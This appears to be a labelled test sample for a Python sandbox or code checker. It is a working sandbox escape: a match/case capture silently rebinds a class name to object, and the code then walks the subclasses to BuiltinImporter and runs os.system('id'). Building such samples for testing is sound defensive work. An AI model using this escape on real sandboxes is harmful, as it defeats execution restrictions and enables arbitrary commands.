# HARM: object-graph escape to os via BuiltinImporter -> os.system | TRICK: own class name rebound by a match/case capture pattern (case Base:)
class Base:
    pass


match object:
    case Base:
        pass

for c in Base.__subclasses__():
    if c.__name__ == "BuiltinImporter":
        c.load_module("os").system("id")
